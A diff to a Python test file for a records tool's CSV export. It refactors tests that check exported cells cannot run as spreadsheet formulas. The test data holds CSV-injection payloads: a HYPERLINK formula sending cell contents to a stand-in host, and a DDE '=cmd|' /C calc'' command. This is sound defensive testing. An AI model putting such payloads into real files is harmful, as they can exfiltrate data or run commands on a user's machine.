@@ -593,14 +593,22 @@ def test_a_database_back_after_a_full_disk_says_so_in_the_log(tmp_path, caplog, 
         assert rec.written == len(parts)
 
 
-def _written(store, items: list[PendingRecord]) -> list[PendingRecord]:
-    """``items`` recorded with their pictures (the recorder started, given them, stopped)."""
-    rec = Recorder(store, "all")
+def _written(store, items: list[PendingRecord], keep: str = "all") -> list[PendingRecord]:
+    """``items`` recorded (the recorder started, given them, stopped), with their pictures unless ``keep`` says."""
+    rec = Recorder(store, keep)
     rec.start()
     for p in items:
         rec.submit(p)
     rec.stop()
     return items
+
+
+def _recorded_alone(data: os.PathLike[str], part: PendingRecord) -> None:
+    """A records database at ``data`` that holds ``part`` alone, no picture kept (what an export reads)."""
+    store = RecordStore.open(None, data)
+    store.upgrade()
+    _written(store, [part], keep="none")
+    store.close()
 
 
 def _parts(n: int) -> list[PendingRecord]:
@@ -1675,13 +1683,8 @@ def test_a_password_with_an_unencoded_at_sign_is_never_shown_in_part(tmp_path):
 def test_a_csv_export_never_carries_a_formula(tmp_path):
     """Part ids and context come from clients; a cell starting with = + - @ would run as a formula in a
     spreadsheet, so the export shows it as text."""
-    store = RecordStore.open(None, tmp_path)
-    store.upgrade()
-    rec = Recorder(store, "none")
-    rec.start()
-    rec.submit(pending(b"x", part_id='=HYPERLINK("http://x/?"&A1,"click")', line="-1+2", station="@SUM(A1)"))
-    rec.stop()
-    store.close()
+    _recorded_alone(tmp_path, pending(b"x", part_id='=HYPERLINK("http://x/?"&A1,"click")', line="-1+2",
+                                      station="@SUM(A1)"))
     r = CliRunner().invoke(cli, ["records", "export", "--data-dir", str(tmp_path), "--format", "csv"])
     assert r.exit_code == 0, r.output
     import csv
@@ -1699,14 +1702,8 @@ def test_a_csv_export_starts_no_formula_where_a_semicolon_or_spaces_start_a_cell
     import csv
     import io
 
-    store = RecordStore.open(None, tmp_path)
-    store.upgrade()
-    rec = Recorder(store, "none")
-    rec.start()
-    rec.submit(pending(b"x", part_id="SN3;=cmd|' /C calc'!A0;x", line=" =1+1", station='lot;"@SUM(A1)',
-                       meta={"lot": "A;-2+3"}))
-    rec.stop()
-    store.close()
+    _recorded_alone(tmp_path, pending(b"x", part_id="SN3;=cmd|' /C calc'!A0;x", line=" =1+1",
+                                      station='lot;"@SUM(A1)', meta={"lot": "A;-2+3"}))
     r = CliRunner().invoke(cli, ["records", "export", "--data-dir", str(tmp_path), "--format", "csv"])
     assert r.exit_code == 0, r.output
     for separator in (",", ";"):
@@ -1725,13 +1722,7 @@ def test_a_csv_export_for_excel_carries_the_utf8_mark_and_every_name_whole(tmp_p
     import csv
     import io
 
-    store = RecordStore.open(None, tmp_path / "data")
-    store.upgrade()
-    rec = Recorder(store, "none")
-    rec.start()
-    rec.submit(pending(b"x", part_id="Prüfteil Ø12 😀", line="零件/良品", station="Linie Süd"))
-    rec.stop()
-    store.close()
+    _recorded_alone(tmp_path / "data", pending(b"x", part_id="Prüfteil Ø12 😀", line="零件/良品", station="Linie Süd"))
     out = tmp_path / "Bericht Prüfung.csv"
     base = ["records", "export", "--data-dir", str(tmp_path / "data"), "--format", "csv", "--out", str(out)]
     r = CliRunner().invoke(cli, [*base, "--bom"])
